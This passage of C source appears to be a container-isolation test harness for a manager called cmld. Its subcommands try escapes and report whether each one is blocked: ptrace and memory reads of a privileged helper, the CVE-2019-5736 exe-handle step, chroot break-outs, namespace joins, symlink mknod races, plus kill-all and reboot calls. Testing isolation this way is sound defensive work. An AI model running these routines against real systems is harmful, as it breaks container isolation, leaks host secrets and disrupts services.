/* `devs_allowed`: the control: the devices the container is meant to have work */
static void atk_devs_allowed(int argc, char **argv)
{
	(void)argc; (void)argv;
	char buf[16];
	int fd = open("/dev/null", O_WRONLY | O_CLOEXEC);
	if (fd < 0 || write(fd, "x", 1) != 1)
		BLOCKED("/dev/null: %s", ERR);
	close(fd);
	fd = open("/dev/zero", O_RDONLY | O_CLOEXEC);
	if (fd < 0 || read(fd, buf, sizeof buf) != (ssize_t)sizeof buf)
		BLOCKED("/dev/zero: %s", ERR);
	close(fd);
	fd = open("/dev/urandom", O_RDONLY | O_CLOEXEC);
	if (fd < 0 || read(fd, buf, sizeof buf) != (ssize_t)sizeof buf)
		BLOCKED("/dev/urandom: %s", ERR);
	close(fd);
	unlink("/dev/atk-null");
	if (mknod("/dev/atk-null", S_IFCHR | 0666, makedev(1, 3)) < 0)
		BLOCKED("mknod of an allowed device (null): %s", ERR);
	fd = open("/dev/atk-null", O_WRONLY | O_CLOEXEC);
	if (fd < 0 || write(fd, "x", 1) != 1)
		BLOCKED("own null node: %s", ERR);
	close(fd);
	unlink("/dev/atk-null");
	SUCCEEDED("/dev/null, /dev/zero, /dev/urandom and a new node of an allowed device work");
}

/* ------------------------------------------------------------------ processes */

/* `helper`: our parent, the exec helper that cmld runs (Python, host binary, full capabilities
 * until it execs us): what of it can we read, trace or open? */
static void atk_helper(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "all";
	pid_t pp = getppid();
	char path[64], buf[4096];
	if (pp <= 1)
		BROKEN("no exec helper as parent (ppid %d)", pp);
	if (!strcmp(what, "procfiles")) {
		/* what the helper's world-readable (or ptrace-READ) /proc files tell about the host */
		char found[700] = "", steps[300] = "";
		snprintf(path, sizeof path, "/proc/%d/cmdline", pp);
		int n = read_file(path, buf, sizeof buf);
		for (int i = 0; i < n; i++)
			if (!buf[i])
				buf[i] = ' ';
		if (n > 0 && (strstr(buf, "cgroup") || strstr(buf, "\"pid\"")))
			snprintf(found, sizeof found, "cmdline: %.300s; ", buf);
		snprintf(steps, sizeof steps, "cmdline: %s; ", n > 0 ? "no host details" : ERR);
		snprintf(path, sizeof path, "/proc/%d/maps", pp);
		n = read_file(path, buf, sizeof buf);
		if (n > 0) {
			char *so = strstr(buf, "/usr/");
			snprintf(found + strlen(found), sizeof found - strlen(found), "maps (host binaries and their "
				 "addresses): %.80s; ", so ? so : buf);
		}
		snprintf(steps + strlen(steps), sizeof steps - strlen(steps), "maps: %s; ", n > 0 ? "read" : ERR);
		snprintf(path, sizeof path, "/proc/%d/environ", pp);
		n = read_file(path, buf, sizeof buf);
		for (int i = 0; i < n; i++)
			if (!buf[i])
				buf[i] = ' ';
		if (n > 0)
			snprintf(found + strlen(found), sizeof found - strlen(found), "environ: %.80s; ", buf);
		snprintf(steps + strlen(steps), sizeof steps - strlen(steps), "environ: %s", n >= 0 ? "read" : ERR);
		if (found[0])
			SUCCEEDED("the exec helper (pid %d) shows host details: %s", pp, found);
		BLOCKED("%s", steps);
	}
	if (!strcmp(what, "exe")) {
		/* CVE-2019-5736: a handle on the helper's binary (the host's interpreter). Never written:
		 * an open of it alone is the hole (and the running daemon keeps it ETXTBSY). */
		snprintf(path, sizeof path, "/proc/%d/exe", pp);
		char target[256] = "";
		ssize_t l = readlink(path, target, sizeof target - 1);
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd >= 0) {
			ssize_t n = read(fd, buf, 4);
			SUCCEEDED("opened the exec helper's binary %s through %s (read %zd bytes: %s)", l > 0 ? target : "?",
				  path, n, printable(buf, n > 0 ? (size_t)n : 0));
		}
		int e = errno;
		fd = open(path, O_PATH | O_CLOEXEC);
		if (fd >= 0)
			SUCCEEDED("got an O_PATH handle on the exec helper's binary %s (the CVE-2019-5736 first step)",
				  l > 0 ? target : "?");
		BLOCKED("readlink %s: %s; open: %s; O_PATH: %s", path, l > 0 ? "ok" : ERR, en(e), ERR);
	}
	/* ptrace / memory */
	char steps[400] = "";
	if (ptrace(PTRACE_SEIZE, pp, 0, 0) == 0) {
		ptrace(PTRACE_DETACH, pp, 0, 0);
		SUCCEEDED("PTRACE_SEIZE of the exec helper (pid %d, full capabilities): code injection into a "
			  "privileged process", pp);
	}
	snprintf(steps, sizeof steps, "ptrace: %s; ", ERR);
	char local[16];
	struct iovec li = {local, sizeof local}, ri = {(void *)0x400000, sizeof local};
	if (process_vm_readv(pp, &li, 1, &ri, 1, 0) >= 0 || errno == EFAULT)
		SUCCEEDED("process_vm_readv of the exec helper permitted (%s)", errno == EFAULT ? "EFAULT: the "
			  "address, not the permission" : "read");
	snprintf(steps + strlen(steps), sizeof steps - strlen(steps), "process_vm_readv: %s; ", ERR);
	snprintf(path, sizeof path, "/proc/%d/mem", pp);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0)
		SUCCEEDED("opened %s (the exec helper's memory)", path);
	snprintf(steps + strlen(steps), sizeof steps - strlen(steps), "mem: %s; ", ERR);
	BLOCKED("%s", steps);
}

/* `pid_attack PID ADDR SECRET`: a process of the host (or of another container) named by its PID
 * as the host (or that container) sees it: signal, pidfd, ptrace, memory */
static void atk_pid_attack(int argc, char **argv)
{
	if (argc < 4)
		BROKEN("usage: pid_attack PID ADDR SECRET");
	pid_t pid = (pid_t)arg_long(argv[1]);
	uintptr_t addr = (uintptr_t)strtoull(argv[2], NULL, 0);
	const char *secret = argv[3];
	char steps[400] = "";
	char buf[64] = "";
	struct iovec li = {buf, strlen(secret)}, ri = {(void *)addr, strlen(secret)};
	ssize_t n = process_vm_readv(pid, &li, 1, &ri, 1, 0);
	if (n > 0 && !memcmp(buf, secret, strlen(secret)))
		SUCCEEDED("process_vm_readv(%d) read the secret '%s'", pid, secret);
	snprintf(steps, sizeof steps, "process_vm_readv: %s; ", n < 0 ? ERR : "other data");
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
		ptrace(PTRACE_DETACH, pid, 0, 0);
		SUCCEEDED("PTRACE_SEIZE of pid %d", pid);
	}
	snprintf(steps + strlen(steps), sizeof steps - strlen(steps), "ptrace: %s; ", ERR);
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0 && pread(fd, buf, strlen(secret), (off_t)addr) > 0 && !memcmp(buf, secret, strlen(secret)))
		SUCCEEDED("read the secret through %s", path);
	snprintf(steps + strlen(steps), sizeof steps - strlen(steps), "/proc/%d/mem: %s", pid, fd < 0 ? ERR : "no secret");
	BLOCKED("%s", steps);
}

/* `signal PID`: SIGCONT (harmless to anyone) by kill, by pidfd, and to every process (-1) */
static void atk_signal(int argc, char **argv)
{
	if (argc < 2)
		BROKEN("usage: signal PID");
	pid_t pid = (pid_t)arg_long(argv[1]);
	int k = kill(pid, SIGCONT);
	int ke = errno;
	int pfd = (int)syscall(SYS_pidfd_open, pid, 0);
	int pe = errno;
	int ps = -1;
	if (pfd >= 0)
		ps = (int)syscall(SYS_pidfd_send_signal, pfd, SIGCONT, NULL, 0);
	int all = kill(-1, SIGCONT);
	DONE("kill(%d, SIGCONT): %s; pidfd_open: %s%s; kill(-1, SIGCONT): %s", pid, k == 0 ? "sent" : en(ke),
	     pfd >= 0 ? "ok" : en(pe), pfd >= 0 ? (ps == 0 ? ", signal sent" : ", signal refused") : "",
	     all == 0 ? "sent to the container's processes" : ERR);
}

/* `kill_all`: SIGKILL to every process we may signal */
static void atk_kill_all(int argc, char **argv)
{
	(void)argc; (void)argv;
	signal(SIGTERM, SIG_IGN);
	int r = kill(-1, SIGKILL);
	DONE("kill(-1, SIGKILL): %s", r == 0 ? "sent" : ERR);
}

/* `reboot`: reboot(2) with RESTART. In a PID namespace this only ends the namespace's init. */
static void atk_reboot(int argc, char **argv)
{
	(void)argc; (void)argv;
	char a[64] = "", b[64] = "";
	if (readlink("/proc/self/ns/pid", a, sizeof a) < 0 || readlink("/proc/1/ns/pid", b, sizeof b) < 0)
		BROKEN("pid ns: %s", ERR);
	sync();
	long r = syscall(SYS_reboot, 0xfee1dead, 0x28121969, 0x01234567 /* RESTART */, NULL);
	DONE("reboot(RESTART): %s", r < 0 ? ERR : "returned");
}

/* `setns_scan NSINODE...`: every namespace file we can reach under /proc: is one of the host's
 * (inode numbers given)? can we join a namespace other than our own? */
static void atk_setns_scan(int argc, char **argv)
{
	static const char *kinds[] = {"mnt", "pid", "net", "user", "uts", "ipc", "cgroup", "time", NULL};
	char seen[600] = "";
	int joined_foreign = 0, files = 0;
	DIR *d = opendir("/proc");
	struct dirent *de;
	while (d && (de = readdir(d))) {
		if (de->d_name[0] < '0' || de->d_name[0] > '9')
			continue;
		for (const char **k = kinds; *k; k++) {
			char p[300], own[96];
			struct stat st, ost;
			snprintf(p, sizeof p, "/proc/%.200s/ns/%s", de->d_name, *k);
			snprintf(own, sizeof own, "/proc/self/ns/%s", *k);
			if (stat(p, &st) < 0 || stat(own, &ost) < 0)
				continue;
			files++;
			for (int i = 1; i < argc; i++)
				if ((unsigned long)st.st_ino == strtoul(argv[i], NULL, 0))
					snprintf(seen + strlen(seen), sizeof seen - strlen(seen), "%s is the host's; ", p);
			if (st.st_ino != ost.st_ino) {
				int fd = open(p, O_RDONLY | O_CLOEXEC);
				if (fd >= 0 && setns(fd, 0) == 0) {
					joined_foreign++;
					snprintf(seen + strlen(seen), sizeof seen - strlen(seen), "joined %s; ", p);
				}
				if (fd >= 0)
					close(fd);
			}
		}
	}
	if (d)
		closedir(d);
	for (const char **k = kinds; *k; k++) {
		char own[96];
		struct stat st;
		snprintf(own, sizeof own, "/proc/self/ns/%s", *k);
		if (stat(own, &st) < 0)
			continue;
		for (int i = 1; i < argc; i++)
			if ((unsigned long)st.st_ino == strtoul(argv[i], NULL, 0))
				snprintf(seen + strlen(seen), sizeof seen - strlen(seen), "now in the host's %s namespace; ", *k);
	}
	if (seen[0])
		SUCCEEDED("%s (%d namespace files looked at)", seen, files);
	BLOCKED("%d namespace files under /proc, none of the host's, %d foreign joined", files, joined_foreign);
}

static int write_str(const char *path, const char *s)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	ssize_t n = write(fd, s, strlen(s));
	int e = errno;
	close(fd);
	errno = e;
	return n < 0 ? -1 : 0;
}

/* `unshare_user`: a new user namespace gives a full capability set again (in it). Does that
 * reach anything of the host? */
static void atk_unshare_user(int argc, char **argv)
{
	(void)argc; (void)argv;
	uid_t uid = getuid();
	gid_t gid = getgid();
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
		BLOCKED("unshare(CLONE_NEWUSER|CLONE_NEWNS): %s", ERR);
	char m[64];
	write_str("/proc/self/setgroups", "deny");
	snprintf(m, sizeof m, "0 %d 1", uid);
	int um = write_str("/proc/self/uid_map", m);
	snprintf(m, sizeof m, "0 %d 1", gid);
	int gm = write_str("/proc/self/gid_map", m);
	char steps[700];
	snprintf(steps, sizeof steps, "new user+mount namespace (uid_map %s, gid_map %s); ", um == 0 ? "ok" : "refused",
		 gm == 0 ? "ok" : "refused");
	char gained[400] = "";
	for (const char **p = MASKED; *p; p++)
		if (umount2(*p, MNT_DETACH) == 0)
			snprintf(gained + strlen(gained), sizeof gained - strlen(gained), "unmasked %s; ", *p);
	if (mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
		snprintf(gained + strlen(gained), sizeof gained - strlen(gained), "/proc/sys made writable; ");
	int fd = open_w("/proc/sys/kernel/core_pattern");
	if (fd >= 0)
		snprintf(gained + strlen(gained), sizeof gained - strlen(gained), "core_pattern open for writing; ");
	snprintf(steps + strlen(steps), sizeof steps - strlen(steps), "core_pattern: %s; ", fd >= 0 ? "writable" : ERR);
	mkdir("/tmp/atk-u", 0700);
	static const char *fs[] = {"proc", "sysfs", "devtmpfs", "cgroup", NULL};
	for (const char **f = fs; *f; f++) {
		if (mount(*f, "/tmp/atk-u", *f, 0, NULL) == 0) {
			snprintf(gained + strlen(gained), sizeof gained - strlen(gained), "mounted %s; ", *f);
			umount2("/tmp/atk-u", MNT_DETACH);
		} else
			snprintf(steps + strlen(steps), sizeof steps - strlen(steps), "%s: %s; ", *f, ERR);
	}
	if (gained[0])
		SUCCEEDED("%s%s", steps, gained);
	BLOCKED("%snothing of the host gained", steps);
}

/* `chroot_escape MARKER`: the classic chroot break-out (chroot into a subdirectory, walk up
 * with .. past the new root, chroot there): is MARKER (a host path) reachable? */
static void atk_chroot_escape(int argc, char **argv)
{
	if (argc < 2)
		BROKEN("usage: chroot_escape HOST_PATH");
	int root = open("/", O_RDONLY | O_DIRECTORY);
	mkdir("/tmp/atk-jail", 0700);
	if (chroot("/tmp/atk-jail") < 0)
		note("chroot: %s", ERR);
	if (fchdir(root) < 0)
		BROKEN("fchdir: %s", ERR);
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	chroot(".");
	struct stat st;
	if (stat(argv[1], &st) == 0)
		SUCCEEDED("reached the host path %s after a chroot break-out", argv[1]);
	BLOCKED("after the break-out '/' is still the container's root (%s: %s)", argv[1], ERR);
}

/* ------------------------------------------------------------------ network */

/* `net_ifaces [NAME...]`: the network interfaces we see; any besides lo and the NAMEs given (the
 * container's own veths) is a host's or another container's */
static void atk_net_ifaces(int argc, char **argv)
{
	DIR *d = opendir("/sys/class/net");
	char names[300] = "";
	int others = 0;
	struct dirent *de;
	while (d && (de = readdir(d))) {
		if (de->d_name[0] == '.')
			continue;
		if (strlen(names) + strlen(de->d_name) + 2 < sizeof names) {
			strcat(names, de->d_name);
			strcat(names, " ");
		}
		int own = !strcmp(de->d_name, "lo");
		for (int i = 1; i < argc; i++)
			own |= !strcmp(de->d_name, argv[i]);
		if (!own)
			others++;
	}
	if (d)
		closedir(d);
	if (others)
		SUCCEEDED("network interfaces besides lo and the container's own: %s", names);
	BLOCKED("only %s", names);
}

/* `net_connect IP:PORT...`: TCP connections (1 s each). With `noroute` first, a route to any
 * target but 127.0.0.1 counts as a success too (a container without a veth) */
static void atk_net_connect(int argc, char **argv)
{
	char steps[800] = "";
	int noroute = argc > 1 && !strcmp(argv[1], "noroute");
	for (int i = 1 + noroute; i < argc; i++) {
		char host[64];
		strncpy(host, argv[i], sizeof host - 1);
		host[sizeof host - 1] = 0;
		char *colon = strrchr(host, ':');
		if (!colon)
			continue;
		*colon = 0;
		struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(colon + 1))};
		inet_pton(AF_INET, host, &a.sin_addr);
		int u = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
		int route = connect(u, (struct sockaddr *)&a, sizeof a);
		int re = errno;
		close(u);
		int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
		int c = connect(s, (struct sockaddr *)&a, sizeof a);
		int ce = errno;
		if (c < 0 && ce == EINPROGRESS) {
			struct pollfd p = {.fd = s, .events = POLLOUT};
			if (poll(&p, 1, 1000) == 1) {
				socklen_t l = sizeof ce;
				getsockopt(s, SOL_SOCKET, SO_ERROR, &ce, &l);
				c = ce ? -1 : 0;
			} else
				ce = ETIMEDOUT;
		}
		close(s);
		if (c == 0)
			SUCCEEDED("TCP connection to %s (the host's listener) established", argv[i]);
		snprintf(steps + strlen(steps), sizeof steps - strlen(steps), "%s: route %s, tcp %s; ", argv[i],
			 route == 0 ? "exists" : en(re), en(ce));
		if (noroute && route == 0 && strcmp(host, "127.0.0.1"))
			SUCCEEDED("a route to %s exists (%s)", host, steps);
	}
	BLOCKED("%s", steps);
}

/* `net_abstract NAME`: an abstract unix socket the host listens on */
static void atk_net_abstract(int argc, char **argv)
{
	if (argc < 2)
		BROKEN("usage: net_abstract NAME");
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	size_t l = strlen(argv[1]);
	memcpy(a.sun_path + 1, argv[1], l);
	if (connect(s, (struct sockaddr *)&a, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + l)) == 0)
		SUCCEEDED("connected to the host's abstract socket @%s", argv[1]);
	BLOCKED("@%s: %s", argv[1], ERR);
}

/* `unix_path PATH...`: unix sockets of the host by path (cmld's control socket...) */
static void atk_unix_path(int argc, char **argv)
{
	char steps[600] = "";
	for (int i = 1; i < argc; i++) {
		int s = unix_connect(argv[i]);
		if (s >= 0)
			SUCCEEDED("connected to %s", argv[i]);
		snprintf(steps + strlen(steps), sizeof steps - strlen(steps), "%s: %s; ", argv[i], ERR);
	}
	BLOCKED("%s", steps);
}

/* ------------------------------------------------------------------ races */

struct race {
	const char *dir, *target;
	volatile int stop;
};

static void *flipper(void *arg)
{
	struct race *r = arg;
	while (!r->stop) {
		rmdir(r->dir);
		symlink(r->target, r->dir); /* DIR is a symlink to the host path */
		unlink(r->dir);
		mkdir(r->dir, 0755); /* DIR is a directory again */
	}
	return NULL;
}

/* `mknod_race DIR HOSTDIR N`: mknod of an allowed device under DIR while another thread keeps
 * swapping DIR for a symlink to HOSTDIR (a host path): cmld's supervisor creates the node; it
 * must never create it outside the container. */
static void atk_mknod_race(int argc, char **argv)
{
	if (argc < 4)
		BROKEN("usage: mknod_race DIR HOSTDIR N");
	struct race r = {.dir = argv[1], .target = argv[2]};
	long n = arg_long(argv[3]);
	mkdir(r.dir, 0755);
	pthread_t t;
	pthread_create(&t, NULL, flipper, &r);
	long made = 0, refused = 0;
	char p[300];
	snprintf(p, sizeof p, "%s/atk-null", r.dir);
	for (long i = 0; i < n; i++) {
		if (mknod(p, S_IFCHR | 0666, makedev(1, 3)) == 0) {
			made++;
			unlink(p);
		} else
			refused++;
	}
	r.stop = 1;
	pthread_join(t, NULL);
	/* and the direct ways out */
	static const char *direct[] = {"/proc/self/root/../../../../..%s/atk-null-direct",
				       "/proc/1/cwd/../../../../..%s/atk-null-cwd",
				       "/dev/../../../../../..%s/atk-null-dotdot", NULL};
	char steps[400] = "";
	for (const char **d = direct; *d; d++) {
		char q[300];
		snprintf(q, sizeof q, *d, argv[2]);
		int rr = mknod(q, S_IFCHR | 0666, makedev(1, 3));
		snprintf(steps + strlen(steps), sizeof steps - strlen(steps), "%s: %s; ", q, rr == 0 ? "created" : ERR);
	}
	DONE("race: %ld nodes made, %ld refused; %s", made, refused, steps);
}

/* `plant_symlink PATH TARGET`: replace PATH (a mount point in a persistent volume) by a symlink */
static void atk_plant_symlink(int argc, char **argv)
{
	if (argc < 3)
		BROKEN("usage: plant_symlink PATH TARGET");
	int um = umount2(argv[1], MNT_DETACH);
	int ue = errno;
	int rd = rmdir(argv[1]);
	int re = errno;
	if (symlink(argv[2], argv[1]) < 0)
		BLOCKED("cannot replace the mount point %s: umount %s, rmdir %s, symlink %s", argv[1],
			um == 0 ? "ok" : en(ue), rd == 0 ? "ok" : en(re), ERR);
	sync();
	DONE("%s -> %s", argv[1], argv[2]);
}

/* ------------------------------------------------------------------ helpers for the host side */

/* `sleeper SECRET`: keeps SECRET in memory and prints where; sleeps forever */
static void atk_sleeper(int argc, char **argv)
{
	static char secret[64];
	strncpy(secret, argc > 1 ? argv[1] : "secret", sizeof secret - 1);
	printf("sleeper pid %d addr %p\n", getpid(), (void *)secret);
	fflush(stdout);
	for (;;)
		pause();
}

/* `killer KILL|STOP NAME...`: SIGKILL or SIGSTOP every process whose command line contains one
 * of NAMEs as soon as it appears (for the stuck-container attacks), for about 20 s */
static void atk_killer(int argc, char **argv)
{
	if (argc < 3)
		BROKEN("usage: killer KILL|STOP NAME...");
	int sig = !strcmp(argv[1], "STOP") ? SIGSTOP : SIGKILL;
	argc--;
	argv++;
	long kills = 0;
	for (time_t end = time(NULL) + 20; time(NULL) < end;) {
		DIR *d = opendir("/proc");
		struct dirent *de;
		while (d && (de = readdir(d))) {
			int pid = atoi(de->d_name);
			if (pid <= 1 || pid == getpid())
				continue;
			char p[64], buf[1024];
			snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
			int n = read_file(p, buf, sizeof buf);
			for (int i = 0; i < n - 1; i++)
				if (!buf[i])
					buf[i] = ' ';
			if (n <= 0 || strstr(buf, "killer"))
				continue;
			for (int a = 1; a < argc; a++)
				if (strstr(buf, argv[a])) {
					char st[512];
					snprintf(p, sizeof p, "/proc/%d/stat", pid);
					if (read_file(p, st, sizeof st) > 0 && strstr(st, ") T "))
						continue; /* already stopped */
					if (kill(pid, sig) == 0)
						kills++;
				}
		}
		if (d)
			closedir(d);
		sched_yield();
	}
	DONE("signalled %ld", kills);
}

struct cmd {
	const char *name;
	void (*fn)(int, char **);
};

static const struct cmd CMDS[] = {
	{"whoami", atk_whoami},
	{"obh", atk_obh},
	{"handle_own", atk_handle_own},
	{"bpf_load", atk_bpf_load},
	{"bpf_procs", atk_bpf_procs},
	{"bpf_readmem", atk_bpf_readmem},
	{"bpf_kill", atk_bpf_kill},
	{"perf_all", atk_perf_all},
	{"keys_list", atk_keys_list},
	{"keys_add", atk_keys_add},
	{"keys_read_own", atk_keys_read_own},
	{"keys_update", atk_keys_update},
	{"keys_unlink_user", atk_keys_unlink_user},
	{"tty", atk_tty},
	{"mknod_flood", atk_mknod_flood},
	{"mknod_path", atk_mknod_path},
	{"service_flood", atk_service_flood},
	{"service_conns", atk_service_conns},
	{"inotify", atk_inotify},
	{"inotify_watches", atk_inotify_watches},
	{"mqueue", atk_mqueue},
	{"fork_bomb", atk_fork_bomb},
	{"mem_hog", atk_mem_hog},
	{"fill", atk_fill},
	{"sched", atk_sched},
	{"affinity", atk_affinity},
	{"oom_inherited", atk_oom_inherited},
	{"oom_lower", atk_oom_lower},
	{"sys", atk_sys},
	{"page_zero_check", atk_page_zero_check},
	{"openw", atk_openw},
	{"proc_unmask", atk_proc_unmask},
	{"mount_fs", atk_mount_fs},
	{"remount_root", atk_remount_root},
	{"cgroup2_view", atk_cgroup2_view},
	{"binfmt", atk_binfmt},
	{"remount", atk_remount},
	{"forge_cap_last", atk_forge_cap_last},
	{"dev", atk_dev},
	{"devs_allowed", atk_devs_allowed},
	{"helper", atk_helper},
	{"pid_attack", atk_pid_attack},
	{"signal", atk_signal},
	{"kill_all", atk_kill_all},
	{"reboot", atk_reboot},
	{"setns_scan", atk_setns_scan},
	{"unshare_user", atk_unshare_user},
	{"chroot_escape", atk_chroot_escape},
	{"net_ifaces", atk_net_ifaces},
	{"net_connect", atk_net_connect},
	{"net_abstract", atk_net_abstract},
	{"unix_path", atk_unix_path},
	{"mknod_race", atk_mknod_race},
	{"plant_symlink", atk_plant_symlink},
	{"sleeper", atk_sleeper},
	{"killer", atk_killer},
	{NULL, NULL},
};

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 2)
		BROKEN("usage: atk ATTACK [ARGS]");
	for (const struct cmd *c = CMDS; c->name; c++)
		if (!strcmp(c->name, argv[1])) {
			c->fn(argc - 1, argv + 1);
			BROKEN("attack %s returned without a result", argv[1]);
		}
	BROKEN("unknown attack %s", argv[1]);
}
